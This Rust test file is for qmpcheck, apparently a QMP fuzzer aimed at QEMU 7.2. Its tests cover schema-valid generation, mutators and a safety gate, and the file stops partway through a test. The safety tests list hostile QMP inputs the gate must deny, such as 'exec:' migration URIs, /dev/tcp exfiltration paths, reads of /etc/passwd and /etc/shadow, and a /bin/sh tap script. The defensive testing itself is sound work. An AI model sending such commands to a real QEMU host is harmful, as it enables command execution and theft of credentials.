//! Generators, mutators and safety rules against the QEMU 7.2 model (the committed
//! introspection recording `corpus/qemu-7.2/qemu-system-x86_64.json`): generated arguments
//! validate against the model's JSON Schemas and pass the emulator's argument checker;
//! nothing leaving a generator breaks a safety rule; hostile reproducers are refused;
//! each mutator produces what it claims; the rules file loads and its errors name FILE:LINE.

use std::path::Path;
use std::sync::{Arc, OnceLock};

use arbitrary::Unstructured;
use proptest::prelude::*;
use qmpcheck::check::schema::{SchemaOptions, SchemaSet, Validators};
use qmpcheck::gen::mutate::{integer_expectation, mutate_any, MAX_STRING, NESTING, UNKNOWN_MEMBER};
use qmpcheck::gen::safety::{RulesError, BUILTIN_RULES};
use qmpcheck::gen::{
    self, strategy, Expectation, GeneratedCommand, Generator, Mutator, MutatorStats, NameKind, SafetyRules,
    SplitMix64, Verdict,
};
use qmpcheck::spec::{introspect, Builtin, Spec};
use qmpcheck::target::emulator::args::check_arguments;
use serde_json::{json, Value};

const MODEL: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/corpus/qemu-7.2/qemu-system-x86_64.json");
const SCRATCH: &str = "/tmp/qmpcheck-scratch";

fn spec() -> &'static Arc<Spec> {
    static SPEC: OnceLock<Arc<Spec>> = OnceLock::new();
    SPEC.get_or_init(|| {
        let text = std::fs::read_to_string(MODEL).expect("corpus/qemu-7.2 recording is committed");
        Arc::new(introspect::parse(&text, "qemu-system-x86_64.json"))
    })
}

fn validators() -> &'static Validators {
    static V: OnceLock<Validators> = OnceLock::new();
    V.get_or_init(|| Validators::new(&SchemaSet::build(spec(), SchemaOptions::default())))
}

fn rules() -> Arc<SafetyRules> {
    Arc::new(SafetyRules::load_builtin())
}

fn scratch() -> &'static Path {
    Path::new(SCRATCH)
}

fn assert_valid(command: &GeneratedCommand) {
    if let Err(v) = validators().validate_args(&command.name, &command.arguments) {
        panic!("{} {} breaks its schema: {:?}", command.name, command.arguments, v);
    }
}

fn assert_safe(rules: &SafetyRules, command: &GeneratedCommand) {
    assert_eq!(rules.check(&command.name, &command.arguments), Verdict::Allow, "{command:?}");
    assert_eq!(rules.check_bytes(&command.to_bytes(), scratch()), Verdict::Allow, "{command:?}");
}

fn assert_emulator_accepts(command: &GeneratedCommand) {
    let spec = spec();
    let args_type = spec.commands.get(&command.name).and_then(|c| c.args.as_ref());
    let map = command.arguments.as_object().expect("arguments are an object");
    if let Err(desc) = check_arguments(spec, args_type, map) {
        panic!("emulator refuses {} {}: {desc}", command.name, command.arguments);
    }
}

fn command_names() -> Vec<String> {
    spec().commands.keys().cloned().collect()
}

fn deny_rule(verdict: &Verdict) -> &str {
    match verdict {
        Verdict::Deny { rule_id, .. } => rule_id,
        other => panic!("expected a denial, got {other:?}"),
    }
}

// ---------------------------------------------------------------------------------------
// The model is what the tests think it is.

#[test]
fn model_is_the_qemu_7_2_recording() {
    let spec = spec();
    assert_eq!(spec.commands.len(), 216, "commands in the QEMU 7.2 system recording");
    assert!(spec.commands.contains_key("blockdev-add"));
}

// ---------------------------------------------------------------------------------------
// Properties of valid generation.

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    #[test]
    fn generated_arguments_validate_against_the_schema(
        (name, args) in prop::sample::select(command_names())
            .prop_flat_map(|name| (Just(name.clone()), strategy::arguments(spec().clone(), name)))
    ) {
        let command = GeneratedCommand { name, arguments: args };
        assert_valid(&command);
        assert_emulator_accepts(&command);
    }

    #[test]
    fn allowed_commands_validate_and_pass_both_gates(command in strategy::command(spec().clone(), rules())) {
        assert_valid(&command);
        assert_safe(&SafetyRules::load_builtin().with_model(spec()), &command);
        assert_emulator_accepts(&command);
    }

    #[test]
    fn sequences_validate_and_pass_both_gates(commands in strategy::sequences(spec().clone(), rules(), 3)) {
        let gate = SafetyRules::load_builtin().with_model(spec());
        for command in &commands {
            assert_valid(command);
            assert_safe(&gate, command);
            assert_emulator_accepts(command);
        }
    }

    #[test]
    fn arbitrary_commands_validate_and_pass_both_gates(bytes in prop::collection::vec(any::<u8>(), 0..1024)) {
        let mut u = Unstructured::new(&bytes);
        let command = gen::arbitrary::command_from(&mut u, spec()).expect("the 7.2 model has allowed commands");
        assert_valid(&command);
        assert_safe(&SafetyRules::load_builtin().with_model(spec()), &command);
    }
}

#[test]
fn seeded_generator_output_validates_passes_the_gates_and_the_emulator() {
    let spec = spec();
    let mut generator = Generator::new(spec, 42);
    let gate = generator.rules().clone();
    let mut names = std::collections::BTreeSet::new();
    for _ in 0..3000 {
        let command = generator.next_command();
        assert_valid(&command);
        assert_safe(&gate, &command);
        assert_emulator_accepts(&command);
        names.insert(command.name);
    }
    // Most of the model is reached: 3000 draws over the eligible commands.
    let eligible = generator.eligible().len();
    assert!(names.len() * 10 >= eligible * 9, "{} of {eligible} commands drawn", names.len());
    assert!(!names.contains("human-monitor-command"));
    assert!(!names.iter().any(|n| n.starts_with("x-")), "x-* only in the unstable campaign");
    assert_eq!(generator.stats().emitted, 3000);
}

#[test]
fn seeded_generator_replays() {
    let a: Vec<_> = {
        let mut g = Generator::new(spec(), 7);
        (0..200).map(|_| g.next_command()).collect()
    };
    let b: Vec<_> = {
        let mut g = Generator::new(spec(), 7);
        (0..200).map(|_| g.next_command()).collect()
    };
    let c: Vec<_> = {
        let mut g = Generator::new(spec(), 8);
        (0..200).map(|_| g.next_command()).collect()
    };
    assert_eq!(a, b);
    assert_ne!(a, c);
}

#[test]
fn generator_draws_every_kind_of_value_from_the_model() {
    // blockdev-add is a union on `driver`; the rules allow four drivers, the walker picks
    // among them and adds the branch's members.
    let mut u = SplitMix64::new(3);
    let rules = SafetyRules::load_builtin();
    let mut drivers = std::collections::BTreeSet::new();
    for _ in 0..400 {
        let mut ctx = gen::Context::new();
        let steer = rules.steer("blockdev-add");
        let config = gen::WalkConfig::default();
        let draft =
            gen::walk::Walker::new(spec(), "blockdev-add", &steer, &mut ctx, &config).arguments(&mut u);
        drivers.insert(draft.arguments["driver"].as_str().unwrap_or("").to_string());
        // node-name is created by blockdev-add (the table): always present, fresh.
        assert!(draft.arguments["node-name"].as_str().is_some_and(|n| n.starts_with("qnode")));
    }
    let expected: std::collections::BTreeSet<String> =
        ["null-aio", "null-co", "qcow2", "raw"].iter().map(|s| s.to_string()).collect();
    assert_eq!(drivers, expected);
}

#[test]
fn sequences_create_use_and_delete_names() {
    let mut generator = Generator::new(spec(), 11);
    let mut saw_block = false;
    let mut saw_object = false;
    for _ in 0..60 {
        let seq = generator.next_sequence();
        assert!(!seq.is_empty());
        let first = &seq[0];
        if first.name == "blockdev-add" && seq.len() >= 3 {
            let node = first.arguments["node-name"].as_str().expect("node-name").to_string();
            let last = seq.last().expect("non-empty");
            // Every step names the node this sequence created, nothing older.
            for step in &seq[1..] {
                for member in ["node-name", "device", "node"] {
                    if let Some(v) = step.arguments.get(member) {
                        // The device of block-job-* is the job's id (checked below).
                        if !step.name.starts_with("block-job-") {
                            assert_eq!(v, &json!(node), "{} {}", step.name, step.arguments);
                        }
                    }
                }
            }
            if last.name == "blockdev-del" {
                assert_eq!(last.arguments["node-name"], json!(node));
                assert!(["null-co", "null-aio"].contains(&first.arguments["driver"].as_str().unwrap_or("")));
                saw_block = true;
            }
        }
        if first.name == "object-add" {
            let id = first.arguments["id"].as_str().expect("id").to_string();
            assert!(
                ["iothread", "throttle-group"].contains(&first.arguments["qom-type"].as_str().unwrap_or(""))
            );
            let last = seq.last().expect("non-empty");
            assert_eq!(last.name, "object-del");
            assert_eq!(last.arguments["id"], json!(id));
            for used in &seq[1..seq.len() - 1] {
                if used.name == "qom-get" || used.name == "qom-list" {
                    assert_eq!(used.arguments["path"], json!(format!("/objects/{id}")));
                }
            }
            saw_object = true;
        }
    }
    assert!(saw_block && saw_object, "block {saw_block} object {saw_object}");
    assert!(generator.context().names(NameKind::BlockNode).is_empty(), "every created node was deleted");
}

/// Walks `command` `draws` times with the built-in rules' steering (sequence settings when
/// `prefer`), each draft from an empty context.
fn drafts(command: &str, draws: usize, prefer: bool) -> Vec<gen::walk::Draft> {
    let rules = SafetyRules::load_builtin();
    let steer = rules.steer(command);
    let config = gen::WalkConfig { prefer, use_existing_percent: 100, ..gen::WalkConfig::default() };
    let mut u = SplitMix64::new(5);
    (0..draws)
        .map(|_| {
            let mut ctx = gen::Context::new();
            gen::walk::Walker::new(spec(), command, &steer, &mut ctx, &config).arguments(&mut u)
        })
        .collect()
}

/// Job sequences (block-stream on a fresh node): every block-job-* and job-* step names the
/// job the sequence created, block-stream keeps its job (auto-dismiss false), and the job
/// is dismissed at the end.
#[test]
fn job_sequences_name_the_job_and_keep_it_until_dismissed() {
    let mut generator = Generator::new(spec(), 11);
    let mut job_sequences = 0;
    let mut job_users = std::collections::BTreeSet::new();
    for _ in 0..200 {
        let seq = generator.next_sequence();
        let Some(stream) = seq.iter().find(|c| c.name == "block-stream") else { continue };
        job_sequences += 1;
        let job = stream.arguments["job-id"].as_str().expect("job-id").to_string();
        assert_eq!(stream.arguments["auto-dismiss"], json!(false), "{}", stream.arguments);
        assert_eq!(stream.arguments["device"], seq[0].arguments["node-name"], "streams the sequence's node");
        for step in seq.iter().skip_while(|c| c.name != "block-stream").skip(1) {
            let member = match step.name.as_str() {
                "block-job-dismiss" | "block-job-finalize" => "id",
                n if n.starts_with("block-job-") => "device",
                n if n.starts_with("job-") => "id",
                _ => continue,
            };
            assert_eq!(step.arguments[member], json!(job), "{} {}", step.name, step.arguments);
            job_users.insert(step.name.clone());
        }
        let last_two: Vec<&str> = seq.iter().rev().take(2).map(|c| c.name.as_str()).collect();
        assert!(last_two[0] == "blockdev-del" && last_two[1].ends_with("job-dismiss"), "{last_two:?}");
    }
    assert_eq!(job_sequences, 46);
    let users: Vec<&str> = job_users.iter().map(String::as_str).collect();
    assert_eq!(
        users,
        [
            "block-job-cancel",
            "block-job-complete",
            "block-job-dismiss",
            "block-job-finalize",
            "block-job-pause",
            "block-job-resume",
            "block-job-set-speed",
            "job-cancel",
            "job-complete",
            "job-dismiss",
            "job-finalize",
            "job-pause",
            "job-resume"
        ]
    );
}

#[test]
fn qom_set_names_a_created_object_and_drive_mirror_creates_its_target_node() {
    // qom-set acts on an object a sequence made: its QOM path.
    let mut ctx = gen::Context::new();
    ctx.add(NameKind::Object, "qobj7");
    let rules = SafetyRules::load_builtin();
    let steer = rules.steer("qom-set");
    let config = gen::WalkConfig { prefer: true, use_existing_percent: 100, ..gen::WalkConfig::default() };
    let draft = gen::walk::Walker::new(spec(), "qom-set", &steer, &mut ctx, &config)
        .arguments(&mut SplitMix64::new(1));
    assert_eq!(draft.arguments["path"], json!("/objects/qobj7"));
    // drive-mirror mirrors an existing node (`device`) into a new one (`node-name`, fresh).
    let mut ctx = gen::Context::new();
    ctx.add(NameKind::BlockNode, "qnode3");
    let steer = rules.steer("drive-mirror");
    let draft = gen::walk::Walker::new(spec(), "drive-mirror", &steer, &mut ctx, &config)
        .arguments(&mut SplitMix64::new(1));
    assert_eq!(draft.arguments["device"], json!("qnode3"));
    assert_eq!(draft.arguments["node-name"], json!("qnode1"));
    assert_eq!(ctx.names(NameKind::BlockNode), ["qnode3".to_string()], "the walk itself adds nothing");
    // Sequences never start with drive-mirror (it needs a node) nor use it as a plain use.
    let mut generator = Generator::new(spec(), 11);
    for _ in 0..200 {
        let seq = generator.next_sequence();
        assert!(seq.iter().all(|c| c.name != "drive-mirror"), "{seq:?}");
    }
}

/// Regression: the walker wrote a random `protocol`, which the `dump-protocol` rewrite
/// rule (prefix `file:`) denies, so dump-guest-memory was never generated.
#[test]
fn rewrite_rule_prefixes_steer_the_walker() {
    let rules = SafetyRules::load_builtin();
    assert_eq!(rules.steer("dump-guest-memory").prefixes("protocol"), Some(&["file:".to_string()][..]));
    let drafts = drafts("dump-guest-memory", 50, false);
    for draft in &drafts {
        let protocol = draft.arguments["protocol"].as_str().expect("protocol");
        assert!(protocol.starts_with("file:q") && protocol.ends_with(".out"), "{protocol}");
        let command =
            GeneratedCommand { name: "dump-guest-memory".into(), arguments: draft.arguments.clone() };
        assert_safe(&rules, &command);
    }
    assert_eq!(drafts.len(), 50);
    // And the seeded generator now draws it.
    let mut generator = Generator::new(spec(), 42);
    let drawn = (0..3000).filter(|_| generator.next_command().name == "dump-guest-memory").count();
    assert_eq!(drawn, 13);
}

/// announce-self: rounds are capped (a huge count at 0 ms steps keeps QEMU busy for good);
/// calc-dirty-rate stays fuzzable, dirty-ring mode included (it crashes QEMU 7.2 under
/// `-machine none`: a real bug for the fuzzer to find, not to hide).
#[test]
fn announce_rounds_are_capped_and_calc_dirty_rate_is_not() {
    let rules = SafetyRules::load_builtin();
    let huge = json!({"initial": 0, "max": 0, "rounds": 5_000_000_000_000_000_000_u64, "step": 0});
    assert_eq!(deny_rule(&rules.check("announce-self", &huge)), "announce-rounds");
    // A negative count never reaches 0 (QEMU decrements before it compares): as bad.
    let negative = json!({"initial": 0, "max": 0, "rounds": -1, "step": 0});
    assert_eq!(deny_rule(&rules.check("announce-self", &negative)), "announce-rounds");
    let capped = json!({"initial": 0, "max": 0, "rounds": 100, "step": 0});
    assert_eq!(rules.check("announce-self", &capped), Verdict::Allow);
    let rounds: Vec<i64> =
        drafts("announce-self", 200, false).iter().filter_map(|d| d.arguments["rounds"].as_i64()).collect();
    assert_eq!(rounds.len(), 200);
    assert_eq!((rounds.iter().copied().min(), rounds.iter().copied().max()), (Some(0), Some(100)));
    assert!(rules.rules_table().contains("; max 100; min 0."), "{}", rules.rules_table());
    let dirty_ring = json!({"calc-time": 9_000_000_000_000_000_000_u64, "mode": "dirty-ring"});
    assert_eq!(rules.check("calc-dirty-rate", &dirty_ring), Verdict::Allow);
    assert!(!rules.denies_command("calc-dirty-rate"));
}

#[test]
fn context_can_start_its_name_counter_after_a_count() {
    let mut ctx = gen::Context::starting_after(3 * 64);
    assert_eq!(ctx.fresh(NameKind::BlockNode), "qnode193");
    assert_eq!(ctx.fresh(NameKind::Job), "qjob194");
    assert!(ctx.is_empty());
    assert_eq!(gen::Context::starting_after(0), gen::Context::new());
}

#[test]
fn a_context_keeps_at_most_max_live_names_per_kind_dropping_the_oldest() {
    let mut ctx = gen::Context::new();
    for i in 0..gen::names::MAX_LIVE_NAMES + 10 {
        ctx.add(NameKind::BlockNode, format!("qnode{i}"));
    }
    ctx.add(NameKind::Job, "qjob1");
    let nodes = ctx.names(NameKind::BlockNode);
    assert_eq!(nodes.len(), gen::names::MAX_LIVE_NAMES);
    assert_eq!(nodes.first().map(String::as_str), Some("qnode10"), "the 10 oldest are gone");
    assert_eq!(nodes.last().map(String::as_str), Some("qnode73"));
    assert_eq!(ctx.len(), gen::names::MAX_LIVE_NAMES + 1);
    // A long-lived generator stays bounded (it grew by ~1 name per 115 commands before).
    let mut generator = Generator::new(spec(), 7);
    for _ in 0..30_000 {
        generator.next_command();
    }
    let kinds = gen::names::NameKind::ALL.len();
    assert!(generator.context().len() <= kinds * gen::names::MAX_LIVE_NAMES, "{}", generator.context().len());
    let at_cap =
        NameKind::ALL.iter().filter(|k| generator.context().names(**k).len() == gen::names::MAX_LIVE_NAMES);
    assert!(at_cap.count() >= 1, "the run reached the cap, so without it the context would have grown");
}

// ---------------------------------------------------------------------------------------
// Hostile reproducers are refused.

#[test]
fn hostile_commands_are_refused() {
    let rules = SafetyRules::load_builtin().with_scratch(SCRATCH);
    let cases: &[(&str, Value, &str)] = &[
        ("migrate", json!({"uri": "exec:touch /tmp/pwned"}), "migrate-uri"),
        ("migrate", json!({"uri": "tcp:127.0.0.1:4444"}), "migrate-uri"),
        ("migrate-incoming", json!({"uri": "file:/etc/passwd"}), "migrate-uri"),
        ("migrate", json!({"uri": "unix:../../run/x.sock"}), "migrate-uri"),
        ("migrate", json!({"uri": "unix:/run/other.sock"}), "migrate-uri"),
        ("migrate", json!({"uri": "unix:m.sock", "channels": []}), "migrate-channels"),
        (
            "blockdev-add",
            json!({"driver": "raw", "node-name": "r", "file": "a/../../etc/x"}),
            "scratch-paths",
        ),
        (
            "chardev-add",
            json!({"id": "c", "backend": {"type": "file", "data": {"out": "/dev/tcp/1.2.3.4/80"}}}),
            "chardev-backends",
        ),
        (
            "chardev-add",
            json!({"id": "c", "backend": {"type": "ringbuf", "data": {"logfile": "/dev/tcp/1.2.3.4/80"}}}),
            "chardev-logfile",
        ),
        ("human-monitor-command", json!({"command-line": "info status"}), "hmp"),
        ("netdev_add", json!({"type": "tap", "id": "n", "script": "/bin/sh"}), "netdev-backends"),
        ("netdev_add", json!({"type": "vhost-user", "id": "n"}), "netdev-backends"),
        ("netdev_add", json!({"type": "user", "id": "n", "smb": "/"}), "netdev-user-host"),
        (
            "object-add",
            json!({"qom-type": "memory-backend-file", "id": "m", "mem-path": "/etc/passwd"}),
            "object-types",
        ),
        (
            "object-add",
            json!({"qom-type": "secret", "id": "s", "file": "/etc/shadow"}),
            "object-host-members",
        ),
        (
            "object-add",
            json!({"qom-type": "memory-backend-ram", "id": "m", "size": 1u64 << 40}),
            "object-size",
        ),
        (
            "blockdev-add",
            json!({"driver": "file", "node-name": "f", "filename": "/etc/passwd"}),
            "block-drivers",
        ),
        (
            "blockdev-add",
            json!({"driver": "qcow2", "node-name": "q", "file": {"driver": "nbd", "server": {}}}),
            "block-drivers",
        ),
        ("blockdev-add", json!({"driver": "raw", "node-name": "r", "file": "/etc/passwd"}), "scratch-paths"),
        ("device_add", json!({"driver": "vfio-pci", "host": "00:01.0"}), "device-drivers"),
        ("device_add", json!({"driver": "e1000", "romfile": "/etc/passwd"}), "device-properties"),
        ("qom-set", json!({"path": "/machine", "property": "romfile", "value": "x"}), "qom-set-properties"),
        ("getfd", json!({"fdname": "x"}), "fds"),
        (
            "nbd-server-start",
            json!({"addr": {"type": "inet", "data": {"host": "0.0.0.0", "port": "1"}}}),
            "exports",
        ),
        (
            "block-export-add",
            json!({"type": "fuse", "id": "e", "node-name": "n", "mountpoint": "/mnt"}),
            "exports",
        ),
        ("dump-guest-memory", json!({"paging": false, "protocol": "fd:x"}), "dump-protocol"),
        ("snapshot-save", json!({"job-id": "j", "tag": "t", "vmstate": "n", "devices": []}), "snapshots"),
        ("x-exit-preconfig", json!({}), "unstable-campaign"),
        (
            "blockdev-add",
            json!({"driver": "raw", "node-name": "r", "file": "nbd:localhost:10809"}),
            "scratch-paths",
        ),
    ];
    for (name, args, rule) in cases {
        let verdict = rules.check(name, args);
        assert_eq!(deny_rule(&verdict), *rule, "{name} {args}");
        // The same command as bytes is refused by the last gate too.
        let bytes = serde_json::to_vec(&json!({"execute": name, "arguments": args})).expect("encodes");
        assert!(rules.check_bytes(&bytes, scratch()).is_deny(), "{name} {args} as bytes");
    }
}

#[test]
fn paths_are_rewritten_into_the_scratch_dir() {
    let rules = SafetyRules::load_builtin();
    let verdict = rules.check_in("screendump", &json!({"filename": "/etc/passwd"}), Some(scratch()));
    assert_eq!(verdict, Verdict::Rewrite(json!({"filename": format!("{SCRATCH}/passwd")})));
    // `..` segments are rewritten away too.
    let up = rules.check_in("screendump", &json!({"filename": "a/../../etc/x"}), Some(scratch()));
    assert_eq!(up, Verdict::Rewrite(json!({"filename": format!("{SCRATCH}/x")})));
    // A protocol prefix is no path: rewritten to a plain file in the scratch dir.
    let nbd = rules.check_in(
        "blockdev-change-medium",
        &json!({"id": "d", "filename": "nbd:h:10809"}),
        Some(scratch()),
    );
    assert_eq!(nbd, Verdict::Rewrite(json!({"id": "d", "filename": format!("{SCRATCH}/10809")})));
    // Inside the scratch dir already: allowed as is.
    let inside = json!({"filename": format!("{SCRATCH}/shot.ppm")});
    assert_eq!(rules.check_in("screendump", &inside, Some(scratch())), Verdict::Allow);
    // Without a scratch dir, the rewrite is relative (QEMU runs in the scratch dir).
    assert_eq!(
        rules.check("pmemsave", &json!({"val": 0, "size": 1, "filename": "/dev/tcp/1.2.3.4/80"})),
        Verdict::Rewrite(json!({"val": 0, "size": 1, "filename": "80"}))
    );
    assert_eq!(
        rules.check("dump-guest-memory", &json!({"paging": false, "protocol": "file:/etc/x"})),
        Verdict::Rewrite(json!({"paging": false, "protocol": "file:x"}))
    );
    // Regression (fuzz seed 1, iteration 155): a huge size would fill the disk from the scratch dir.
    let huge = json!({"val": 0, "size": 9223372036854775807_i64, "filename": "m"});
    assert!(
        matches!(rules.check("pmemsave", &huge), Verdict::Deny { .. }),
        "{:?}",
        rules.check("pmemsave", &huge)
    );
    // check_bytes returns the whole rewritten command, id kept.
    let bytes = br#"{"execute":"screendump","arguments":{"filename":"/root/s.ppm"},"id":5}"#;
    assert_eq!(
        rules.check_bytes(bytes, scratch()),
        Verdict::Rewrite(
            json!({"execute":"screendump","arguments":{"filename": format!("{SCRATCH}/s.ppm")},"id":5})
        )
    );
}

#[test]
fn unparseable_bytes_naming_a_denied_command_are_refused() {
    let rules = SafetyRules::load_builtin();
    let cases: &[&[u8]] = &[
        // QEMU accepts single quotes; serde_json does not.
        b"{'execute':'human-monitor-command','arguments':{'command-line':'info'}}",
        // Escaped name inside an otherwise broken text.
        b"{\"execute\":\"h\\u0075man-monitor-command\",\"arguments\":{\"command-line\":\"x\"}",
        // Duplicate key: serde keeps the last, QEMU refuses; either way refuse.
        br#"{"execute":"human-monitor-command","execute":"query-status"}"#,
        // Invalid UTF-8 elsewhere in the text.
        b"{\"execute\":\"migrate\",\"arguments\":{\"uri\":\"exec:sh\"},\"id\":\"\xff\"}",
        // A denied command after a reset byte.
        b"\xff{\"execute\":\"getfd\",\"arguments\":{\"fdname\":\"a\"}} {",
        // An x- command in a truncated text.
        b"{\"execute\":\"x-exit-preconfig\"",
        // A path member in an irregular text of any command.
        b"{'execute':'blockdev-change-medium','arguments':{'id':'d','filename':'/etc/shadow'}}",
    ];
    for bytes in cases {
        assert!(rules.check_bytes(bytes, scratch()).is_deny(), "{}", String::from_utf8_lossy(bytes));
    }
    // Irregular bytes naming only unrestricted commands pass (QEMU answers a parse error).
    assert_eq!(rules.check_bytes(b"{\"execute\":\"query-status\"\xff", scratch()), Verdict::Allow);
    // Several clean texts are checked one by one.
    let two = br#"{"execute":"query-status"} {"execute":"getfd","arguments":{"fdname":"x"}}"#;
    assert_eq!(deny_rule(&rules.check_bytes(two, scratch())), "fds");
}

#[test]
fn unstable_campaign_switch_allows_x_commands() {
    let rules = SafetyRules::load_builtin().with_model(spec());
    assert!(rules.denies_command("x-exit-preconfig"));
    let campaign = rules.with_unstable_campaign(true);
    assert!(!campaign.denies_command("x-exit-preconfig"));
    assert!(campaign.denies_command("human-monitor-command"));
}

// ---------------------------------------------------------------------------------------
// Mutators produce what they claim.

fn sample(name: &str, args: Value) -> GeneratedCommand {
    GeneratedCommand { name: name.to_string(), arguments: args }
}

fn apply(m: Mutator, command: &GeneratedCommand) -> gen::Mutated {
    m.apply(spec(), command, &mut SplitMix64::new(1)).unwrap_or_else(|| panic!("{} applies", m.name()))
}

fn parse(bytes: &[u8]) -> Value {
    serde_json::from_slice(bytes).expect("mutated text is json")
}

#[test]
fn drop_mandatory_removes_a_mandatory_member_and_the_schema_refuses() {
    let command = sample("block_resize", json!({"node-name": "n", "size": 1}));
    assert_valid(&command);
    let out = apply(Mutator::DropMandatory, &command);
    assert_eq!(out.expect, Expectation::Rejected);
    let args = parse(&out.bytes)["arguments"].clone();
    assert!(args.get("size").is_none(), "size is the only mandatory member: {args}");
    assert!(validators().validate_args("block_resize", &args).is_err());
    // query-status has no mandatory member: the mutator does not apply.
    assert!(Mutator::DropMandatory
        .apply(spec(), &sample("query-status", json!({})), &mut SplitMix64::new(1))
        .is_none());
}

#[test]
fn unknown_member_and_wrong_type_are_refused_by_the_schema() {
    let command = sample("block_resize", json!({"node-name": "n", "size": 1}));
    let unknown = apply(Mutator::UnknownMember, &command);
    let args = parse(&unknown.bytes)["arguments"].clone();
    assert_eq!(args[UNKNOWN_MEMBER], json!(1));
    assert!(validators().validate_args("block_resize", &args).is_err());
    let wrong = apply(Mutator::WrongType, &command);
    let args = parse(&wrong.bytes)["arguments"].clone();
    assert!(validators().validate_args("block_resize", &args).is_err(), "{args}");
    assert_eq!(wrong.expect, Expectation::Rejected);
    // No members: `arguments` itself becomes an array.
    let none = apply(Mutator::WrongType, &sample("query-status", json!({})));
    assert_eq!(parse(&none.bytes)["arguments"], json!([]));
}

#[test]
fn integer_edges_are_raw_text_with_qemu_7_2_expectations() {
    let command = sample("block_resize", json!({"node-name": "n", "size": 1}));
    let mut seen = std::collections::BTreeSet::new();
    for seed in 0..64 {
        let out =
            Mutator::IntegerEdge.apply(spec(), &command, &mut SplitMix64::new(seed)).expect("size is an int");
        let text = String::from_utf8(out.bytes.clone()).expect("ascii");
        if text.contains(":18446744073709551616") {
            assert_eq!(out.expect, Expectation::Rejected);
        }
        if text.contains(":-1") || text.contains(":9007199254740993") {
            assert_eq!(out.expect, Expectation::Accepted, "{text}");
        }
        seen.insert(text);
    }
    assert!(seen.len() >= 6, "edges drawn: {}", seen.len());
    // Observed on QEMU 7.2: 2^63 and 2^64 are refused by an `int` member, 2^53+1 and -1 pass.
    assert_eq!(integer_expectation(Builtin::Int, "9223372036854775808"), Expectation::Rejected);
    assert_eq!(integer_expectation(Builtin::Int, "18446744073709551615"), Expectation::Rejected);
    assert_eq!(integer_expectation(Builtin::Int, "9007199254740993"), Expectation::Accepted);
    assert_eq!(integer_expectation(Builtin::Size, "-1"), Expectation::Accepted);
    assert_eq!(integer_expectation(Builtin::Uint8, "-1"), Expectation::Rejected);
    assert_eq!(integer_expectation(Builtin::Uint64, "18446744073709551615"), Expectation::Accepted);
}

#[test]
fn strings_huge_and_empty_are_bounded() {
    let command = sample("qom-list", json!({"path": "/machine"}));
    let huge = apply(Mutator::HugeString, &command);
    assert_eq!(parse(&huge.bytes)["arguments"]["path"].as_str().map(str::len), Some(MAX_STRING));
    assert!(huge.bytes.len() < MAX_STRING + 100);
    let empty = apply(Mutator::EmptyString, &command);
    assert_eq!(parse(&empty.bytes)["arguments"]["path"], json!(""));
    // No string member: the id carries it.
    let on_id = apply(Mutator::EmptyString, &sample("query-status", json!({})));
    assert_eq!(parse(&on_id.bytes)["id"], json!(""));
}

#[test]
fn deep_nesting_goes_past_1024() {
    let out = apply(Mutator::DeepNesting, &sample("query-status", json!({})));
    let mut depth = 0usize;
    let mut max = 0usize;
    for &b in &out.bytes {
        match b {
            b'{' | b'[' => {
                depth += 1;
                max = max.max(depth);
            }
            b'}' | b']' => depth -= 1,
            _ => {}
        }
    }
    assert_eq!(depth, 0, "balanced");
    assert_eq!(max, NESTING + 1);
    assert!(max > 1024);
    assert_eq!(out.expect, Expectation::ParseErrorThenSurvive);
}

#[test]
fn encoding_mutators_are_really_invalid() {
    let command = sample("query-status", json!({}));
    for seed in 0..8 {
        let out = Mutator::InvalidUtf8.apply(spec(), &command, &mut SplitMix64::new(seed)).expect("applies");
        assert!(std::str::from_utf8(&out.bytes).is_err(), "{:?}", out.bytes);
    }
    let out = apply(Mutator::LoneSurrogate, &command);
    let text = String::from_utf8(out.bytes.clone()).expect("escapes are ascii");
    assert!(text.contains("\\ud800") || text.contains("\\udc00"), "{text}");
    assert!(serde_json::from_slice::<Value>(&out.bytes).is_err(), "a lone surrogate is not valid json");
}

#[test]
fn truncation_reset_duplicates_and_oob() {
    let command = sample("block_resize", json!({"node-name": "n", "size": 1}));
    let full = command.to_bytes();
    let cut = apply(Mutator::Truncated, &command);
    assert_eq!(cut.bytes.last(), Some(&0xFF));
    assert!(cut.bytes.len() <= full.len());
    assert!(full.starts_with(&cut.bytes[..cut.bytes.len() - 1]));
    let reset = apply(Mutator::ParserReset, &command);
    assert_eq!(reset.bytes.iter().filter(|&&b| b == 0xFF).count(), 1);
    assert_eq!(reset.bytes.len(), full.len() + 1);
    let dup = apply(Mutator::DuplicateKey, &command);
    let text = String::from_utf8(dup.bytes.clone()).expect("ascii");
    assert_eq!(text.matches("\"node-name\":\"n\"").count(), 2, "{text}");
    assert_eq!(dup.expect, Expectation::ParseErrorThenSurvive);
    let oob = apply(Mutator::ExecOobWithoutCapability, &command);
    let v = parse(&oob.bytes);
    assert_eq!(v["exec-oob"], json!("block_resize"));
    assert!(v.get("execute").is_none());
    assert_eq!(v["id"], json!("qmpcheck-oob"));
    assert_eq!(oob.expect, Expectation::Rejected);
}

#[test]
fn ids_take_every_json_type() {
    let command = sample("query-status", json!({}));
    let mut kinds = std::collections::BTreeSet::new();
    for seed in 0..200 {
        let out =
            Mutator::IdOfEveryType.apply(spec(), &command, &mut SplitMix64::new(seed)).expect("applies");
        let id = parse(&out.bytes)["id"].clone();
        let kind = match id {
            Value::Null => "null",
            Value::Bool(_) => "bool",
            Value::Number(n) if n.is_f64() => "float",
            Value::Number(_) => "int",
            Value::String(_) => "string",
            Value::Array(_) => "array",
            Value::Object(_) => "object",
        };
        kinds.insert(kind);
    }
    assert_eq!(kinds.len(), 7, "{kinds:?}");
}

#[test]
fn every_mutator_has_a_unique_name_and_stats_count_them() {
    let names: std::collections::BTreeSet<_> = Mutator::ALL.iter().map(|m| m.name()).collect();
    assert_eq!(names.len(), 14);
    for m in Mutator::ALL {
        assert_eq!(Mutator::from_name(m.name()), Some(m));
    }
    let mut stats = MutatorStats::new();
    let mut generator = Generator::new(spec(), 5);
    let mut rng = SplitMix64::new(5);
    for _ in 0..300 {
        let command = generator.next_command();
        let out = mutate_any(spec(), &command, &mut rng);
        stats.record(out.mutator, Some(&out));
    }
    let applied: u64 = stats.counts.values().map(|c| c.applied).sum();
    assert_eq!(applied, 300);
    assert_eq!(stats.counts.len(), 14);
    assert!(stats.table().lines().count() == 16);
}

#[test]
fn mutated_generated_commands_pass_the_gate_unless_they_name_a_restricted_command() {
    // Mutating an allowed command never produces something the gate lets through that
